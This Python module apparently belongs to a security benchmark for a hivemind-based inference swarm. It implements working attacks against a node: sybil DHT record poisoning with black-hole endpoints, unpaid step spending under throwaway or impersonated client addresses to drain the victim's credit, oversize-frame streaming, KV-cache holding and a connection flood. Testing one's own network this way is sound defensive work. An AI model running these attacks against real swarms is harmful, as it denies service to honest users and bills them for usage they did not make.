"""Attackers of a Nectar swarm, written against the wire protocol as a hostile outsider would (issue 22).

Each attacker builds its own bytes (hivemind's stream framing, raw msgpack metadata, its own DHT records) instead of
calling the client's helpers, so a change of the honest client does not change the attack (only the signature
of an open, where the node asks for one, comes from the public ``nectar.wire.messages``, with the attacker's own
throwaway keys). Every attack runs as an
asyncio task on one event loop (``AttackRunner``) and keeps counters in ``stats``; whatever the node answers, the
attack never raises: a refusal is recorded as ``"refused: <error>"`` in ``stats["outcome"]`` and the attack stops
or goes on as it sees fit. ``"succeeded"`` means the node refused nothing the attacker tried; whether that hurt
honest clients is what the benchmark measures.

Attacks (``ATTACKS``):
  sybil        3 fresh peer ids, validly signed records claiming every block, throughput 1e9, price 0, and a direct
               lane that accepts connections and never answers (a black hole)
  rotate       sessions opened under a throwaway client address each, spending steps without ever paying
  impersonate  sessions opened under the honest client's address, spending steps it is then charged for
  oversize     a frame header declaring a huge length, then bytes streamed after it, on the P2P and the direct lane
  cache        sessions opened (KV cache reserved) and kept alive with a ``flush`` every few seconds, as many as
               the node allows
  flood        as many connections to the direct lane as it takes, from one address, each naming an RPC and holding
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import os
import resource
import secrets
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import hivemind
import torch
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
from eth_account import Account
from hivemind.dht.validation import DHTRecord
from hivemind.p2p import P2P, PeerID
from hivemind.proto import runtime_pb2
from hivemind.utils import MSGPackSerializer, get_dht_time

logger = logging.getLogger(__name__)

# Names of the protocol as an outsider reads them off the wire (docs/protocol.md); not imported from nectar.wire on
# purpose, so an attacker keeps speaking what the node spoke when it was written.
RPC_INFERENCE = "nectar1.inference"
MODELS_KEY = "nectar.models"
SIGNATURE_MARKER = b"\x00nectar-sig:"
ED25519_PEER_ID_PREFIX = b"\x00\x24\x08\x01\x12\x20"
MESSAGE_MARKER, ERROR_MARKER = b"\x00", b"\x01"  # hivemind's P2P stream framing: marker, 8-byte length, body
HEADER_LEN = 8


def block_key(model_id: str, index: int) -> str:
    return f"nectar.{model_id}.{index}"


def short(error: BaseException | str, limit: int = 160) -> str:
    text = error if isinstance(error, str) else f"{type(error).__name__}: {error}"
    text = " ".join(str(text).split())
    return text if len(text) <= limit else text[: limit - 3] + "..."


def open_auth(target: Target, key: bytes, session_id: bytes) -> dict | None:
    """The signature a node that authenticates opens asks for (``auth`` in the open, issue 22), made with ``key``,
    a key the attacker owns; None where the protocol spoken has no signed opens (the node then bills the claim)."""
    try:
        from nectar.wire.messages import ClientAuth  # the public protocol module: any outsider may import it
    except ImportError:
        return None
    try:
        auth = ClientAuth.sign(
            key,
            kind="open",
            uid=target.uid,
            session_id=session_id,
            step=0,
            node=target.node_eth,
            peer_id=target.node_peer_id,
        )
        return auth.to_wire()
    except Exception as e:  # a changed signing API: go on unsigned (and be refused, which the report shows)
        logger.debug(f"could not sign an open ({e})")
        return None


def eth_proof(account, peer_id: bytes) -> str:
    """An Ethereum key's EIP-191 signature over a peer id: the proof readers may ask a record's address to carry
    (issue 22). A sybil makes it for its own fresh keys, so the proof cannot stop sybils, only borrowed addresses."""
    from eth_account.messages import encode_defunct

    signed = Account.sign_message(encode_defunct(primitive=b"nectar/peer-address/1:" + peer_id), account.key)
    return "0x" + bytes(signed.signature).hex()


@dataclass
class Target:
    """What the attacker knows of the swarm: public facts (announcements, the multiaddrs of peers)."""

    initial_peers: list[str]
    model_id: str
    num_blocks: int
    hidden_size: int
    node_peer_id: str  # base58 peer id of the honest node attacked
    node_direct: str  # HOST:PORT of its direct lane ("" if none)
    victim_address: str  # the honest client's Ethereum address (it is in every open the client sends)
    node_eth: str = ""  # the node's receipt address (announced): what a signed open names
    source_host: str = ""  # local address the attacker's TCP connections come from ("" = any): on loopback, another
    # 127.x address than the honest client's stands for another host
    options: dict = field(default_factory=dict)

    @property
    def uid(self) -> str:
        return f"{self.model_id}[0:{self.num_blocks}]"


# ---- raw framing ---------------------------------------------------------------------------------------------------


def frame(message: runtime_pb2.ExpertRequest) -> bytes:
    body = message.SerializeToString()
    return MESSAGE_MARKER + len(body).to_bytes(HEADER_LEN, "big") + body


def request(metadata: dict, tensors: list[torch.Tensor] = ()) -> runtime_pb2.ExpertRequest:
    packed = [
        runtime_pb2.Tensor(
            buffer=t.contiguous().numpy().tobytes(), size=list(t.shape), dtype=str(t.dtype).removeprefix("torch.")
        )
        for t in tensors
    ]
    return runtime_pb2.ExpertRequest(
        uid=metadata.pop("uid", ""), tensors=packed, metadata=MSGPackSerializer.dumps(metadata)
    )


async def read_reply(reader: asyncio.StreamReader) -> tuple[dict | None, str | None]:
    """One framed reply: (its metadata, None) or (None, the node's error text); raises when the stream ends."""
    marker = await reader.readexactly(1)
    size = int.from_bytes(await reader.readexactly(HEADER_LEN), "big")
    body = await reader.readexactly(size)
    if marker == ERROR_MARKER:
        from hivemind.proto.p2pd_pb2 import RPCError

        error = RPCError()
        error.ParseFromString(body)
        return None, error.message
    response = runtime_pb2.ExpertResponse()
    response.ParseFromString(body)
    try:
        metadata = MSGPackSerializer.loads(response.metadata) if response.metadata else {}
    except Exception:
        metadata = {}
    return metadata, None


class RawStream:
    """One inference stream to a node, on its direct lane (TCP) or over P2P (through the attacker's own daemon)."""

    def __init__(self, reader, writer):
        self.reader, self.writer = reader, writer

    @classmethod
    async def direct(cls, address: str, rpc: str = RPC_INFERENCE, *, source: str = "") -> RawStream:
        host, _, port = address.rpartition(":")
        local = (source, 0) if source else None
        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port), local_addr=local)
        hello = MSGPackSerializer.dumps({"rpc": rpc})
        writer.write(len(hello).to_bytes(HEADER_LEN, "big") + hello)
        await writer.drain()
        return cls(reader, writer)

    @classmethod
    async def p2p(cls, p2p: P2P, peer_id: PeerID, rpc: str = RPC_INFERENCE) -> RawStream:
        _, reader, writer = await p2p.call_binary_stream_handler(peer_id, rpc)
        return cls(reader, writer)

    async def send(self, message: runtime_pb2.ExpertRequest) -> None:
        self.writer.write(frame(message))
        await self.writer.drain()

    async def call(self, message: runtime_pb2.ExpertRequest, timeout: float = 30) -> tuple[dict | None, str | None]:
        await self.send(message)
        return await asyncio.wait_for(read_reply(self.reader), timeout)

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.writer.close()


# ---- the attacks ---------------------------------------------------------------------------------------------------


class Attack:
    """One attack: ``run()`` goes on until cancelled; ``stats`` says what it got. Subclasses implement ``attack``."""

    name = "?"
    description = ""

    def __init__(self, target: Target, *, p2p: P2P | None = None):
        self.target, self.p2p = target, p2p
        self.stats: dict[str, Any] = {"outcome": "running"}
        self._errors: dict[str, int] = {}
        self.finished = threading.Event()  # set once run() has cleaned up

    def refused(self, error: BaseException | str) -> None:
        """A refusal the attack met: the first one is the outcome; every kind is counted."""
        text = short(error)
        self._errors[text] = self._errors.get(text, 0) + 1
        if self.stats["outcome"] in ("running", "succeeded"):
            self.stats["outcome"] = f"refused: {text}"

    def count(self, name: str, by: int = 1) -> None:
        self.stats[name] = self.stats.get(name, 0) + by

    async def run(self) -> None:
        try:
            await self.attack()
            if self.stats["outcome"] == "running":
                self.stats["outcome"] = "succeeded"
        except asyncio.CancelledError:
            if self.stats["outcome"] == "running":
                self.stats["outcome"] = "succeeded"
            raise
        except Exception as e:  # the attack's own failure (e.g. it could not reach the node): never the benchmark's
            logger.debug(f"{self.name} failed", exc_info=True)
            self.refused(e)
        finally:
            try:
                await self.cleanup()
            finally:
                self.finished.set()

    async def attack(self) -> None:
        raise NotImplementedError

    async def cleanup(self) -> None:
        pass

    def report(self) -> dict[str, Any]:
        errors = sorted(self._errors.items(), key=lambda item: -item[1])[:5]
        return {**self.stats, **({"errors": dict(errors)} if errors else {})}


def _random_hidden(target: Target, tokens: int) -> torch.Tensor:
    return torch.randn(1, tokens, target.hidden_size)


class SybilBlackHoles(Attack):
    """Mints ``count`` peer ids, announces each as serving every block at throughput 1e9 and price 0, signed by its
    own key (so the records are valid), with a direct lane that accepts connections and never answers."""

    name = "sybil"
    description = "3 sybil peer ids, whole model, throughput 1e9, price 0, direct lane that never answers"

    def __init__(self, target: Target, *, count: int = 3, refresh: float = 5.0, **kwargs):
        super().__init__(target, **kwargs)
        self.num_sybils, self.refresh = count, refresh
        self.keys = [Ed25519PrivateKey.generate() for _ in range(count)]
        self.eth = [Account.create() for _ in range(count)]
        self.dht: hivemind.DHT | None = None
        self.server: asyncio.AbstractServer | None = None
        self.held: list[asyncio.StreamWriter] = []

    async def _black_hole(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.count("connections_swallowed")
        self.held.append(writer)
        with contextlib.suppress(Exception):
            while await reader.read(1 << 16):  # read everything, answer nothing
                pass

    def _info(self, index: int, address: str, peer_id: bytes) -> dict:
        return {
            "eth_proof": eth_proof(self.eth[index], peer_id),
            "state": 2,  # ONLINE
            "start": 0,
            "end": self.target.num_blocks,
            "throughput": 1e9,
            "inference_rps": 1e9,
            "forward_rps": 1e9,
            "network_rps": 1e9,
            "dtype": "float32",
            "cache_tokens_left": 10**9,
            "price_per_token": 0,
            "eth_address": self.eth[index].address,
            "public_name": f"sybil{index}",
            "direct_address": address,
            "version": "nectar/1",
            "timestamp": time.time(),
        }

    def _store(self, state: int, expiration: float) -> int:
        stored = 0
        host, port = "127.0.0.1", self.server.sockets[0].getsockname()[1]
        for index, key in enumerate(self.keys):
            subkey = ED25519_PEER_ID_PREFIX + key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
            info = {**self._info(index, f"{host}:{port}", subkey), "state": state}
            keys = [block_key(self.target.model_id, i) for i in range(self.target.num_blocks)]
            for dht_key in keys:
                stored += bool(self.dht.store(dht_key, info, expiration, subkey=subkey))
            stored += bool(
                self.dht.store(MODELS_KEY, {self.target.model_id: self.target.num_blocks}, expiration, subkey=subkey)
            )
        return stored

    async def attack(self) -> None:
        self.server = await asyncio.start_server(self._black_hole, "127.0.0.1", 0)
        loop = asyncio.get_running_loop()
        self.dht = await loop.run_in_executor(
            None,
            lambda: hivemind.DHT(
                initial_peers=self.target.initial_peers,
                start=True,
                record_validators=[MultiKeyValidator(self.keys)],
            ),
        )
        self.stats["sybils"] = self.num_sybils
        while True:
            # as long as readers and DHT peers keep a record (60 s since issue 22; a day's expiry was kept before)
            expiration = get_dht_time() + 60
            stored = await loop.run_in_executor(None, self._store, 2, expiration)
            self.count("records_stored", stored)
            await asyncio.sleep(self.refresh)

    async def cleanup(self) -> None:
        # leave the swarm as found: records marked OFFLINE
        loop = asyncio.get_running_loop()
        if self.dht is not None:
            with contextlib.suppress(Exception):
                await asyncio.wait_for(loop.run_in_executor(None, self._store, 0, get_dht_time() + 60), 30)
            with contextlib.suppress(Exception):
                await loop.run_in_executor(None, self.dht.shutdown)
        for writer in self.held:
            writer.close()
        if self.server is not None:
            self.server.close()


class MultiKeyValidator(hivemind.dht.validation.RecordValidatorBase):
    """Nectar's record format (value + marker + Ed25519 signature over key, subkey, value, expiry), signed by
    whichever of the attacker's keys the subkey names: one DHT process publishes for many sybil peer ids."""

    def __init__(self, keys: list[Ed25519PrivateKey]):
        self.keys = keys
        self._by_subkey = {
            MSGPackSerializer.dumps(
                ED25519_PEER_ID_PREFIX + k.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
            ): k
            for k in keys
        }

    def __getstate__(self):
        return {"raw": [k.private_bytes(Encoding.Raw, PrivateFormat.Raw, NoEncryption()) for k in self.keys]}

    def __setstate__(self, state):
        self.__init__([Ed25519PrivateKey.from_private_bytes(raw) for raw in state["raw"]])

    def validate(self, record: DHTRecord) -> bool:
        return True  # the attacker's own peer stores anything

    def sign_value(self, record: DHTRecord) -> bytes:
        key = self._by_subkey.get(record.subkey)
        if key is None:
            return record.value
        signed = MSGPackSerializer.dumps((record.key, record.subkey, record.value, record.expiration_time))
        return record.value + SIGNATURE_MARKER + key.sign(signed)

    def strip_value(self, record: DHTRecord) -> bytes:
        if record.value[-64 - len(SIGNATURE_MARKER) :].startswith(SIGNATURE_MARKER):
            return record.value[: -64 - len(SIGNATURE_MARKER)]
        return record.value

    @property
    def priority(self) -> int:
        return 20

    def merge_with(self, other) -> bool:
        return False


class SpendSteps(Attack):
    """Opens sessions on the node's direct lane and spends prefill steps on them without ever paying; ``address``
    picks the client address each open claims (a throwaway one, or the victim's)."""

    step_tokens = 256
    session_tokens = 2048

    def __init__(self, target: Target, *, concurrency: int = 1, **kwargs):
        super().__init__(target, **kwargs)
        self.concurrency = concurrency

    def identity(self) -> tuple[str, bytes | None]:
        """(the client address an open claims, the key that signs it or None)."""
        raise NotImplementedError

    async def attack(self) -> None:
        await asyncio.gather(*(self._worker() for _ in range(self.concurrency)))

    async def _worker(self) -> None:
        while True:
            try:
                await self._session()
            except (TimeoutError, ConnectionError, asyncio.IncompleteReadError, OSError) as e:
                self.refused(e)
                await asyncio.sleep(0.5)

    async def _session(self) -> None:
        stream = await RawStream.direct(self.target.node_direct, source=self.target.source_host)
        try:
            session_id = secrets.token_bytes(16)
            address, key = self.identity()
            opening = {
                "uid": self.target.uid,
                "type": "open",
                "session_id": session_id,
                "max_length": self.session_tokens,
                "batch_size": 1,
                "client": address,
            }
            auth = open_auth(self.target, key, session_id) if key is not None else None
            if auth is not None:
                opening["auth"] = auth
                self.stats["signed_opens"] = True
            reply, error = await stream.call(request(opening))
            self.count("sessions_opened" if error is None else "opens_refused")
            if error is not None:
                self.refused(error)
                await asyncio.sleep(1.0)
                return
            position, index = 0, 0
            while position + self.step_tokens <= self.session_tokens:
                tokens = self.step_tokens
                step = {"type": "step", "session_id": session_id, "step": index, "position": position}
                reply, error = await stream.call(request(step, [_random_hidden(self.target, tokens)]))
                if error is not None:
                    self.count("steps_refused")
                    await self.step_refused(error)
                    return
                self.count("steps_served")
                self.count("tokens_served", tokens)
                position, index = position + tokens, index + 1
        finally:
            stream.close()

    async def step_refused(self, error: str) -> None:
        self.refused(error)
        await asyncio.sleep(0.5)


class RotateAddresses(SpendSteps):
    name = "rotate"
    description = "unpaid prefill steps, a fresh throwaway client address per session"

    def identity(self) -> tuple[str, bytes | None]:
        account = Account.create()  # a throwaway key: signs its own opens where the node asks for signatures
        return account.address, bytes(account.key)


class Impersonate(SpendSteps):
    name = "impersonate"
    description = "unpaid prefill steps under the honest client's address"

    def __init__(self, target: Target, **kwargs):
        super().__init__(target, **kwargs)
        self.step_tokens = type(self).step_tokens  # shrinks to fill the victim's credit to the last wei

    def identity(self) -> tuple[str, bytes | None]:
        return self.target.victim_address, None  # the victim's key is not the attacker's: claimed, never signed

    async def step_refused(self, error: str) -> None:
        if "credit_limit" not in error:
            return await super().step_refused(error)
        # the goal: the victim owes the node its whole credit limit. Fill what is left with smaller steps, and keep
        # it full as the victim's vouchers free some
        self.stats["victim_credit_exhausted"] = True
        self.stats["last_credit_error"] = short(error, 120)
        if self.step_tokens > 1:
            self.step_tokens //= 2
        else:
            await asyncio.sleep(0.1)


class OversizeFrames(Attack):
    """On each lane, a frame header declaring a huge body, then ``megabytes`` MiB streamed into it; the connection is
    then held open (the node should have refused at the header)."""

    name = "oversize"
    description = "frame header declaring 2^40 bytes, then bytes streamed, on the P2P and the direct lane"

    def __init__(self, target: Target, *, megabytes: int = 128, **kwargs):
        super().__init__(target, **kwargs)
        self.megabytes = megabytes
        self.streams: list[RawStream] = []

    async def attack(self) -> None:
        lanes = [("direct", self._direct)] if self.target.node_direct else []
        if self.p2p is not None:
            lanes.append(("p2p", self._p2p))
        await asyncio.gather(*(self._lane(name, opener) for name, opener in lanes))
        await asyncio.Event().wait()  # hold the connections until stopped

    async def _direct(self) -> RawStream:
        return await RawStream.direct(self.target.node_direct, source=self.target.source_host)

    async def _p2p(self) -> RawStream:
        return await RawStream.p2p(self.p2p, PeerID.from_base58(self.target.node_peer_id))

    async def _lane(self, lane: str, opener: Callable) -> None:
        sent = 0
        try:
            stream = await opener()
            self.streams.append(stream)
            stream.writer.write(MESSAGE_MARKER + (1 << 40).to_bytes(HEADER_LEN, "big"))
            chunk = os.urandom(1 << 20)
            for _ in range(self.megabytes):
                stream.writer.write(chunk)
                await asyncio.wait_for(stream.writer.drain(), 30)
                sent += 1
                if stream.reader.at_eof():
                    raise ConnectionError("the node closed the connection")
            # a node that answered (an error frame) refused; one that read on silently accepted
            with contextlib.suppress(asyncio.TimeoutError):
                reply, error = await asyncio.wait_for(read_reply(stream.reader), 0.5)
                if error is not None:
                    self.refused(f"{lane}: {error}")
        except Exception as e:
            self.refused(f"{lane} after {sent} MiB: {short(e)}")
        finally:
            self.stats[f"{lane}_mib_streamed"] = sent

    async def cleanup(self) -> None:
        for stream in self.streams:
            stream.close()


@dataclass
class HeldSession:
    stream: RawStream
    session_id: bytes
    tokens: int
    lost: str | None = None  # why the node ended it
    watcher: asyncio.Task | None = None


class CacheHolding(Attack):
    """Opens sessions (no step, no payment) until the node's KV cache is full, each as large as it still allows,
    keeps every one alive with a ``flush`` every ``keepalive`` s, and opens new ones as the node ends any (a node
    that releases idle sessions whatever is flushed only makes the attacker reopen)."""

    name = "cache"
    description = "sessions opened with no step, held with a flush every few seconds, as many as the node allows"

    def __init__(self, target: Target, *, keepalive: float = 3.0, max_sessions: int = 64, **kwargs):
        super().__init__(target, **kwargs)
        self.keepalive, self.max_sessions = keepalive, max_sessions
        self.held: list[HeldSession] = []

    async def _open(self, max_length: int, batch: int) -> HeldSession | str:
        stream = await RawStream.direct(self.target.node_direct, source=self.target.source_host)
        session_id = secrets.token_bytes(16)
        account = Account.create()  # a throwaway identity per session: per-client caps see a new client each time
        opening = {
            "uid": self.target.uid,
            "type": "open",
            "session_id": session_id,
            "max_length": max_length,
            "batch_size": batch,
            "client": account.address,
        }
        auth = open_auth(self.target, bytes(account.key), session_id)
        if auth is not None:
            opening["auth"] = auth
            self.stats["signed_opens"] = True
        try:
            reply, error = await stream.call(request(opening), timeout=20)
        except Exception as e:
            stream.close()
            return short(e)
        if error is not None:
            stream.close()
            return error
        held = HeldSession(stream, session_id, max_length * batch)
        held.watcher = asyncio.create_task(self._watch(held))
        return held

    @staticmethod
    async def _watch(held: HeldSession) -> None:
        """Reads what the node sends on a held session: an error or the end of the stream means it is gone."""
        try:
            while True:
                _, error = await read_reply(held.stream.reader)
                if error is not None:
                    held.lost = short(error, 120)
                    return
        except Exception as e:
            held.lost = short(e, 120) or "closed by the node"

    async def _fill(self) -> None:
        max_length, batch = 8192, 64
        while len(self.held) < self.max_sessions:
            try:
                opened = await self._open(max_length, batch)
            except OSError as e:
                opened = short(e)
            if isinstance(opened, str):
                if "cache_full" not in opened and "too_large" not in opened:
                    self.count("opens_refused")
                    self.refused(opened)
                    return  # try again next round
                if batch > 1:
                    batch //= 2
                elif max_length > 16:
                    max_length //= 2
                else:
                    self.stats["last_refusal"] = short(opened)
                    return  # not even a 16-token session fits: the cache is held
                continue
            self.held.append(opened)
            self.count("sessions_opened")
        self.stats["tokens_held"] = sum(h.tokens for h in self.held)

    async def attack(self) -> None:
        while True:
            await self._fill()
            self.stats["sessions_held"] = len(self.held)
            self.stats["sessions_held_max"] = max(self.stats.get("sessions_held_max", 0), len(self.held))
            await asyncio.sleep(self.keepalive)
            alive = []
            for held in self.held:
                if held.lost is None:
                    try:
                        await held.stream.send(request({"type": "flush", "session_id": held.session_id}))
                        self.count("flushes")
                    except Exception as e:
                        held.lost = short(e, 120)
                if held.lost is None:
                    alive.append(held)
                else:
                    self.count("sessions_lost")  # the node ended it: reopen (next round)
                    self.stats["last_loss"] = held.lost
                    held.stream.close()
            self.held = alive

    async def cleanup(self) -> None:
        for held in self.held:
            held.stream.close()
            if held.watcher is not None:
                held.watcher.cancel()


class ConnectionFlood(Attack):
    """Opens ``connections`` TCP connections to the direct lane from one address, each sending a hello that names
    the inference RPC and then nothing; connections the node closes are opened again."""

    name = "flood"
    description = "connections to the direct lane from one address, each naming an RPC and then silent"

    def __init__(self, target: Target, *, connections: int = 2000, **kwargs):
        super().__init__(target, **kwargs)
        self.connections = connections
        self.open: set[RawStream] = set()

    async def _hold(self) -> None:
        while True:
            try:
                stream = await asyncio.wait_for(
                    RawStream.direct(self.target.node_direct, source=self.target.source_host), 10
                )
            except Exception as e:
                self.count("connects_failed")
                self.refused(e)
                await asyncio.sleep(1.0)
                continue
            self.count("connects")
            self.open.add(stream)
            self.stats["held_now"] = len(self.open)
            self.stats["held_max"] = max(self.stats.get("held_max", 0), len(self.open))
            with contextlib.suppress(Exception):
                await stream.reader.read()  # until the node closes it
            self.open.discard(stream)
            self.count("closed_by_node")
            stream.close()
            await asyncio.sleep(0.2)

    async def attack(self) -> None:
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        want = min(hard, self.connections + 512)
        if soft < want:
            resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
        tasks = []
        for index in range(self.connections):
            tasks.append(asyncio.create_task(self._hold()))
            if index % 50 == 49:
                await asyncio.sleep(0.05)  # let the node accept between bursts
        try:
            await asyncio.gather(*tasks)
        finally:
            for task in tasks:
                task.cancel()

    async def cleanup(self) -> None:
        for stream in list(self.open):
            stream.close()


ATTACKS: dict[str, type[Attack]] = {
    cls.name: cls
    for cls in (SybilBlackHoles, RotateAddresses, Impersonate, OversizeFrames, CacheHolding, ConnectionFlood)
}


class AttackRunner:
    """Runs one attack on its own event loop thread (with a client-mode DHT peer for a P2P handle)."""

    def __init__(self, attack_cls: type[Attack], target: Target, **options):
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, name="attacker", daemon=True)
        self.thread.start()
        self.runtime = None
        self.task = None
        self.attack: Attack | None = None
        self.setup_error: str | None = None
        try:
            p2p = None
            if attack_cls is OversizeFrames:
                from nectar.wire.dht import ClientRuntime  # a plain swarm peer, as any outsider may run

                self.runtime = ClientRuntime(target.initial_peers)
                p2p = self.runtime.p2p
            self.attack = attack_cls(target, p2p=p2p, **options)
        except Exception as e:
            self.setup_error = f"refused: setup failed ({short(e)})"

    def start(self) -> None:
        if self.attack is None:
            return
        if self.runtime is not None:  # P2P streams must be opened on the loop their daemon handle lives on
            self.task = self.runtime.submit(self.attack.run())
        else:
            self.task = asyncio.run_coroutine_threadsafe(self.attack.run(), self.loop)

    def stop(self, timeout: float = 40) -> dict:
        if self.attack is None:
            return {"outcome": self.setup_error}
        if self.task is not None:
            self.task.cancel()  # concurrent future: cancels the task on its loop
            deadline = time.monotonic() + timeout
            while not self._cleaned() and time.monotonic() < deadline:
                time.sleep(0.2)
        report = self.attack.report()
        if self.runtime is not None:
            with contextlib.suppress(Exception):
                self.runtime.shutdown()
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(5)
        return report

    def _cleaned(self) -> bool:
        return self.attack.finished.is_set() if self.task is not None else True
